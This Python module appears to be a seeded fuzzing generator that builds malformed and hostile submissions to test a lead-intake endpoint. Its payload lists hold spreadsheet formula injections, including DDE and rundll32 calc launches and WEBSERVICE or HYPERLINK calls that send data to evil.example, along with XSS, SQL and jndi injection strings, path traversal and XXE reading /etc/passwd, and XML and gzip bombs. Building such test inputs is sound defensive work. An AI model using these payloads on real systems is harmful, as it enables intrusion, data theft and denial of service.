"""Submissions that nobody should send: made from a seed, so that a run can be had again.

Each kind stands for a sentence of docs/intake.md, or for what senders, programs and attackers are known to send.
"""

import gzip
import json
import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote_from_bytes, urlencode

from tests.builders import CONTACT_ME, ROOT

SEED = 20_261_121
JSON, FORM = "application/json", "application/x-www-form-urlencoded"
SAMPLES = tuple(
    (ROOT / "docs" / "samples" / f"{name}.json").read_bytes()
    for name in ("contact-me", "connection-test", "crm-form", "table-row")
)
BODY_MAX = 262_144

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1;"Click")'),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1", "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1", "\x00=1+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", '"=1+1', "a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1", 'a";=1+1;"'),
    *('=DDE("cmd";"/C calc";"x")', '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://evil.example";"//a")'),
    *(
        "-2+3+cmd|' /C calc'!A0",
        "+[Book1]Sheet1!A1",
        "@[Book1]Sheet1!A1",
        "=rundll32|'URL.dll,OpenURL calc'!A",
        "%0A=1+1",
    ),
    *('=1+1";=2+2', "1;=1+1", "x\r\n=1+1", "x\x0b=1+1", "x\x0c=1+1", "x\u2028=1+1", "x\x85=1+1", "{=1+1}", "[=1+1]"),
)
"""Texts that a spreadsheet might run."""
TEXTS = (
    *FORMULAS,
    *(
        "<script>alert(1)</script>",
        "'\"><img src=x onerror=alert(1)>",
        "{{7*7}}",
        "{% for x in y %}",
        "${jndi:ldap://x}",
    ),
    *("%s%n%x", "%(name)s", "%(", "{0.__class__}", "$(id)", "`id`", "../../etc/passwd", "C:\\con", "' or 1 eq 1 or '"),
    *(
        "'; drop table leads;--",
        "PartitionKey eq 'x'",
        "a|b|c|d",
        "lead|m0",
        "~",
        "\x00",
        "a\x00b",
        "\u202eevil",
        "\ufffe",
    ),
    *("\u0000" * 40, "😀" * 200, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!", "\ud800", "\udfff\ud800", "İ", "ﷺ" * 50),
    *("true", "null", "N/A", "-", "[]", "{}", "0", "1e999", "NaN", "9" * 400, "\r\nBcc: x@evil.example", "a\r\n\r\nb"),
    *(
        "SPZA",
        "AppSource-PLT|contoso.crm",
        "PLT",
        "DNC",
        "INS",
        "MSFT_TEST_1",
        "AppSource-" + "|" * 500,
        "x" * 500 + "|y.z",
    ),
)
LONG = ("é" * 5_000, "a" * 40_000, "\U0001f642" * 9_000, "=" * 20_000, "a " * 15_000)
PHONES = (
    "+" + "1" * 5_000,
    "+46 8 123",
    "tel:+1;ext=" + "9" * 500,
    "(" * 500,
    "+1 x" * 300,
    "٠١٢٣٤٥٦٧٨٩",
    "+٤٦٨١٢٣",
    "1.6E+308",
    "ext" * 400,
)
MAILS = (
    *("a@" + "b." * 200 + "example", "@" * 300, '"' * 200 + "@x.example", "(" * 300 + "@x.example", "a@[127.0.0.1]"),
    *("ada@bücher.example", "ada@xn--", "a\u200bda@x.example", "mailto:" * 30 + "a@b.example", "<" * 200, "a@b@c", "@"),
    *("ADA <ada@x.example>, bo@x.example", "a..b@x.example", "ä" * 300 + "@x.example", "a@x.example\x00", "a@\ud800"),
)
TIMES = (
    *(
        "0000-00-00T00:00:00Z",
        "9999-12-31T23:59:59.9999999Z",
        "2026-02-30T00:00:00Z",
        "1/1/0001 0:00:00 AM",
        -1,
        10**18,
    ),
    *("2026-11-21T20:04:27+99:99", "13/13/2026 25:61:61 PM", "now", "٢٠٢٦-١١-٢١", 1.7e308, "0" * 5_000, True, {}),
)
NAMES = (
    *("UserDetails", "FirstName", "LastName", "Email", "Phone", "Country", "Company", "Title", "LeadSource", "share"),
    *("ActionCode", "OfferTitle", "Description", "CustomerInfo", "CreatedTime", "OfferDisplayName", "customer", "lead"),
    *("notes", "contactRequested", "location", "searchTerms", "consent", "contact", "doNotContact", "qualification"),
    *(
        "offer",
        "id",
        "sender",
        "kind",
        "name",
        "size",
        "profile",
        "_gotcha",
        "__proto__",
        "constructor",
        "",
        "\x00",
        "a.b",
    ),
)
DOORS = ("marketplace", "form", "programme", "sender")


@dataclass(frozen=True)
class Sent:
    """One submission: through which of DOORS, its body and its headers; `kind` names what is wrong with it."""

    kind: str
    door: str
    body: bytes
    headers: dict[str, str] = field(default_factory=dict)


Made = tuple[bytes, dict[str, str]]
Rng = random.Random


def submissions(seed: int, count: int) -> Iterator[Sent]:
    """As many submissions; every kind comes up, and some come again as they were."""
    rng = Rng(seed)
    sent: list[Sent] = []
    for number in range(count):
        if sent and rng.random() < 0.04:
            yield rng.choice(sent)
            continue
        name, make = KINDS[number % len(KINDS)]
        body, headers = make(rng)
        one = Sent(name, rng.choice(DOORS), body, _headers(rng, headers))
        if len(body) < 20_000:
            sent = [*sent[-50:], one]
        yield one


def _headers(rng: Rng, headers: dict[str, str]) -> dict[str, str]:
    """Now and then a key, and a content type that has nothing to do with the body."""
    found = {"content-type": JSON, **headers}
    if rng.random() < 0.1:
        found["content-type"] = rng.choice(KINDS_OF_CONTENT)
    if rng.random() < 0.1:
        found["idempotency-key"] = rng.choice(("1", "é", "'", "|", "\u00a0", "../..")) + "x" * rng.choice(
            (0, 5_000, rng.randrange(900))
        )
    if rng.random() < 0.1:
        found["accept"] = rng.choice(("text/html", "*/*", "x" * 2_000, ";q=,", "application/json;q=nan"))
    if rng.random() < 0.1:
        found["accept-language"] = rng.choice(("de", "xx", "*;q=9", "," * 2_000, "hu;q=0.1,sv;q=", "\x7f"))
    return found


KINDS_OF_CONTENT = (
    *("", "text/plain", FORM, "multipart/form-data", "multipart/form-data; boundary=", "application/xml", "image/png"),
    *(
        "application/json; charset=utf-16",
        "APPLICATION/JSON;;;",
        "x" * 5_000,
        "multipart/form-data; boundary=" + "a" * 500,
    ),
    *("multipart/form-data; boundary*0=a; boundary*=b; boundary*x*=c", "text/html; charset=\x01", ";", "/", "a/b/c"),
)


def _text(rng: Rng) -> str:
    return rng.choice(LONG if rng.random() < 0.02 else TEXTS)


def _value(rng: Rng, depth: int = 0) -> Any:
    pick = rng.random()
    if pick < 0.6 or depth > 3:
        return _text(rng) if rng.random() < 0.4 else rng.choice(rng.choice((PHONES, MAILS, TIMES)))
    if pick < 0.75:
        return rng.choice((None, True, False, 0, -1, 1.5, 10**30, -0.0, 1e300))
    if pick < 0.87:
        return [_value(rng, depth + 1) for _ in range(rng.randrange(4))]
    return {rng.choice(NAMES): _value(rng, depth + 1) for _ in range(rng.randrange(4))}


def _cased(rng: Rng, name: str) -> str:
    return rng.choice(
        (str, str.upper, str.lower, str.swapcase, lambda text: f" {text}\t", lambda text: text[:1] + "_" + text[1:])
    )(name)


def _person(rng: Rng) -> dict[str, Any]:
    """A submission that could be a lead, with something hostile in some of its places."""
    body = json.loads(json.dumps(CONTACT_ME))
    person = body["UserDetails"]
    for name in rng.sample(sorted(person), rng.randrange(4)):
        person[name] = _text(rng)
    if rng.random() < 0.3:
        person["Phone"] = rng.choice(PHONES)
    if rng.random() < 0.3:
        person["Email"] = rng.choice(MAILS)
    if rng.random() < 0.3:
        body["CreatedTime"] = rng.choice(TIMES)
    for name in rng.sample(("LeadSource", "ActionCode", "OfferTitle", "Description"), rng.randrange(3)):
        body[name] = _text(rng)
    body["n"] = rng.randrange(10**9)
    return body


def _dumped(value: Any, **options: Any) -> bytes:
    return json.dumps(value, **options).encode("utf-8", "surrogatepass")


def likely(rng: Rng) -> Made:
    body: Any = {**_person(rng), "share": rng.choice((True, True, "yes", "on", "0", "perhaps"))}
    shape = rng.randrange(5)
    if shape == 1:
        body = {**body.pop("UserDetails"), **body}
    if shape == 2:
        body = {"CustomerInfo": json.dumps(body.pop("UserDetails")), **body}
    if shape == 3:
        body = {"lead": {"customer": body.pop("UserDetails"), **body}}
    if shape == 4:
        body = {
            "qualification": rng.choice(("salesQualified", "marketingQualified", rng.choice(TEXTS))),
            "customer": body.pop("UserDetails"),
            "consent": {"share": True, "contact": rng.choice((True, False, "no"))},
            "sender": {"kind": "seller", "name": rng.choice(TEXTS)},
            **body,
        }
    return _dumped({_cased(rng, name): value for name, value in body.items()}, ensure_ascii=rng.random() < 0.5), {}


def anything(rng: Rng) -> Made:
    names = [_cased(rng, rng.choice(NAMES)) for _ in range(rng.randrange(12))]
    return _dumped({name: _value(rng) for name in names}), {}


def no_object(rng: Rng) -> Made:
    return _dumped(_value(rng)), {}


def broken(rng: Rng) -> Made:
    """A good body that lost, gained or changed bytes on its way."""
    body = bytearray(rng.choice(SAMPLES) if rng.random() < 0.5 else _dumped(_person(rng)))
    for _ in range(rng.randrange(1, 6)):
        at = rng.randrange(len(body))
        what = rng.randrange(5)
        if what == 0:
            del body[at:]
            body += b" "
        elif what == 1:
            body[at] = rng.randrange(256)
        elif what == 2:
            body[at:at] = rng.randbytes(rng.randrange(1, 9))
        elif what == 3:
            del body[at : at + rng.randrange(1, 40)]
            body += b" "
        else:
            body[at:at] = body[at : at + rng.randrange(200)]
    return bytes(body), {}


def encoded(rng: Rng) -> Made:
    """Text in another encoding than UTF-8, called what it is or something else."""
    text = json.dumps(_person(rng), ensure_ascii=False)
    how = rng.choice(
        ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252", "shift_jis", "utf-7", "cp037")
    )
    charset = rng.choice((how, "utf-8", "latin-1", "nonsense", ""))
    return text.encode(how, "ignore"), {"content-type": f"application/json; charset={charset}"}


def no_utf8(rng: Rng) -> Made:
    """Overlong forms, halves of surrogates, bytes that no text has."""
    bad = rng.choice(
        (
            b"\xc0\xbd1+1",
            b"\xed\xa0\x80",
            b"\xff",
            b"\xf4\x90\x80\x80",
            b"\xe2\x82",
            b"\x80",
            b"\x00",
            b"\\ud800",
            b"\\u0000",
            b"\\x41",
            b"\x1b[2J",
        )
    )
    return rng.choice(SAMPLES).replace(b"Co", bad, rng.randrange(1, 3)), {}


def deep(rng: Rng) -> Made:
    depth = rng.choice((50, 100, 300, 450, 900, 950, 980, 990, 1_000, 1_100, 3_000, 30_000, 120_000))
    left, right = rng.choice(((b"[", b"]"), (b'{"UserDetails":', b"}"), (b'{"a":[', b"]}")))
    depth = min(depth, (BODY_MAX - 500) // len(left + right))
    inner = b"1" if rng.random() < 0.5 else SAMPLES[0]
    nested = left * depth + inner + right * (depth if rng.random() < 0.8 else 0)
    return (b'{"Company": "A", "x": ' + nested + b"}" if rng.random() < 0.5 else nested)[:BODY_MAX], {}


def wide(rng: Rng) -> Made:
    """Many names, many faults, long names, long values: as much as fits."""
    size = rng.choice((100, 1_000, 10_000, 60_000))
    what = rng.randrange(7)
    text = rng.choice(("a", "é", "\\u0000", "😀", "=", "'", "\\", "\u0001"))
    if what == 0:
        body: Any = {"Company": "A"} | {f"{text}{n}": text for n in range(size // 10)}
    elif what == 1:
        body = {"Company": "A", text * size: text * size}
    elif what == 2:
        body = {"UserDetails": {"Company": "A", **{f"n{n}": {"x": [n]} for n in range(size // 20)}}}
    elif what == 3:
        body = {"Company": text * size, "Description": text * size, "Title": text * size}
    elif what == 4:
        body = {"Company": "A", "searchTerms": [text * 50] * (size // 60), "share": True}
    elif what == 5:
        body = {name: [size] for name in NAMES} | {f"{name}{n}": {} for name in NAMES for n in range(size // 2_000)}
    else:
        body = {"Company": "A", "a": ["x"] * size}
    return _dumped(body, ensure_ascii=rng.random() < 0.3)[: BODY_MAX - 1], {}


def numbers(rng: Rng) -> Made:
    number = rng.choice(
        (
            b"1e999",
            b"-1e999",
            b"NaN",
            b"Infinity",
            b"-Infinity",
            b"9" * 4_000,
            b"9" * 5_000,
            b"0x10",
            b"01",
            b"1.",
            b".5",
            b"1e" + b"9" * 400,
            b"-0",
            b"1" * 200 + b".5",
        )
    )
    return b'{"Company": "A", "Phone": ' + number + b', "x": [' + number + b"]}", {}


def doubled(rng: Rng) -> Made:
    """One name twice, and two bodies in one."""
    name = rng.choice(NAMES)
    first, second = _dumped(_value(rng)), _dumped(_value(rng))
    twice = b'{"Company": "A", %b: %b, %b: %b}' % (_dumped(name), first, _dumped(name), second)
    return rng.choice((twice, SAMPLES[0] + SAMPLES[1], SAMPLES[0] + b"\n" + SAMPLES[0], b"[" + SAMPLES[0] + b"]")), {}


def urlform(rng: Rng) -> Made:
    pairs = [(_cased(rng, rng.choice(NAMES)), _text(rng)) for _ in range(rng.randrange(1, 12))]
    pairs += [("company", "A"), ("email", rng.choice(MAILS)), ("share", rng.choice(("on", "0", "perhaps")))]
    what = rng.randrange(7)
    if what == 1:
        pairs += [(f"f{n}", "x") for n in range(rng.choice((300, 480, 600)))]
    elif what == 2:
        pairs += [("share", rng.choice(("0", "1")))] * rng.choice((2, 400))
    elif what == 3:
        pairs += [
            ("customer" + "[a]" * rng.choice((1, 5, 500)), "x"),
            ("UserDetails.Email", "x"),
            ("email[]", "b@x.example"),
        ]
    body = urlencode([(name, value) for name, value in pairs], errors="surrogatepass").encode()
    if what == 4:
        body = body.replace(b"%", rng.choice((b"%%", b"%f", b"%00%", b"%u00")), 3)
    if what == 5:
        body = quote_from_bytes(rng.randbytes(200), safe="&=").encode() + b"&" + body
    if what == 6:
        body = body.replace(b"&", rng.choice((b";", b"&&", b"=&=", b"\r\n")))
    return body[:BODY_MAX], {
        "content-type": rng.choice((FORM, f"{FORM}; charset=utf-8", f"{FORM}; charset=latin-1", JSON, ""))
    }


def multipart(rng: Rng) -> Made:
    boundary = rng.choice(("b", "-" * 40 + "b", "b b", "b" * 70, "b\\", "b.*+", ""))
    parts = [("company", "A"), ("email", rng.choice(MAILS)), ("share", "on")]
    parts += [(rng.choice(NAMES), _text(rng)) for _ in range(rng.choice((0, 3, 3, 3, 3, 3, 3, 9, 480, 600)))]
    line = rng.choice((b"\r\n", b"\n"))
    body = b""
    for name, value in parts:
        head = f'Content-Disposition: form-data; name="{name}"'.encode("utf-8", "surrogatepass")
        if rng.random() < 0.05:
            head += rng.choice(
                (
                    b'; filename="../../x.exe"',
                    b'; filename=""',
                    b"; filename*0=a; filename*=b; filename*0*=c",
                    b"; name*=utf-8''%ff",
                    b'; name="x"',
                    b'; filename="' + b"a" * 5_000 + b'"',
                )
            )
        if rng.random() < 0.02:
            head = rng.choice(
                (
                    b"X: y",
                    b"",
                    b"Content-Disposition",
                    b"Content-Type: multipart/mixed; boundary=b",
                    b"\xff",
                    head + line + b" folded",
                )
            )
        body += b"--" + boundary.encode() + line + head + line + line + value.encode("utf-8", "surrogatepass") + line
    body += b"--" + boundary.encode() + rng.choice((b"--", b"--" + line, b"", line + line, b"-"))
    if rng.random() < 0.1:
        body = body.replace(line, b"", rng.randrange(5))
    return body[:BODY_MAX], {
        "content-type": f"multipart/form-data; boundary={rng.choice((boundary, chr(34) + boundary + chr(34), 'c'))}"
    }


BOMB = gzip.compress(gzip.compress(b"\x00" * 50_000_000, mtime=0), mtime=0)


def packed(rng: Rng) -> Made:
    """What came compressed, bombs too: it is kept as it came and never unpacked."""
    plain = rng.choice((_dumped(_person(rng)), rng.choice(SAMPLES)))
    body = rng.choice((gzip.compress(plain, 1, mtime=0), zlib.compress(plain, 1), plain, BOMB))
    return body, {"content-encoding": rng.choice(("gzip", "deflate", "br", "gzip, gzip", "identity", "x" * 500))}


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%b">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)
OTHERS = (
    *(
        b"",
        b" ",
        b"\r\n",
        b"\xef\xbb\xbf",
        b"\xff\xfe",
        b"null",
        b"true",
        b'"text"',
        b"7",
        b"[]",
        b"{}",
        b"--",
        b"=",
        b"&",
        b"\x00" * 500,
    ),
    *(
        LAUGHS,
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        b"<html><body>502 Bad Gateway</body></html>",
    ),
    *(
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3",
        b"\x89PNG\r\n\x1a\n",
        b"PK\x03\x04" + b"\x00" * 26,
        b"\x1f\x8b\x08\x00",
        b"MZ",
        b"\xca\xfe\xba\xbe",
    ),
    *(
        b"a: &a [x]\nb: &b [*a, *a]",
        b"company,email\nA,a@x.example",
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b'O:8:"stdClass":0:{}',
        b"\x80\x04N.",
    ),
    *(
        b'{"Company": "A"',
        b"{'Company': 'A'}",
        b'{"Company": "A",}',
        b'{"Company": "A"} // x',
        b'{"Company": "A\nB"}',
        b'{"Company": "A"}\x00',
    ),
)


def no_json(rng: Rng) -> Made:
    body = rng.choice(OTHERS) if rng.random() < 0.6 else rng.randbytes(rng.choice((1, 60, 5_000)))
    return body, {"content-type": rng.choice((JSON, "application/xml", "text/plain", FORM, "application/octet-stream"))}


def too_large(rng: Rng) -> Made:
    """Just as much as is taken, and a byte more."""
    room = rng.choice((BODY_MAX, BODY_MAX + 1, BODY_MAX - 1)) - len(SAMPLES[0])
    return SAMPLES[0] + b" " * room if rng.random() < 0.5 else b" " * room + SAMPLES[0], {}


KINDS: tuple[tuple[str, Callable[[Rng], Made]], ...] = (
    *((make.__name__, make) for make in (likely, anything, broken, likely, urlform, encoded, likely, multipart)),
    *((make.__name__, make) for make in (likely, no_object, no_utf8, numbers, anything, doubled, packed, no_json)),
    *((make.__name__, make) for make in (likely, deep, broken, urlform, likely, wide, anything, multipart)),
    *((make.__name__, make) for make in (likely, broken, anything, no_json, likely, urlform, encoded, too_large)),
)
"""In turn; what could be a lead comes most often, since what becomes one goes furthest."""
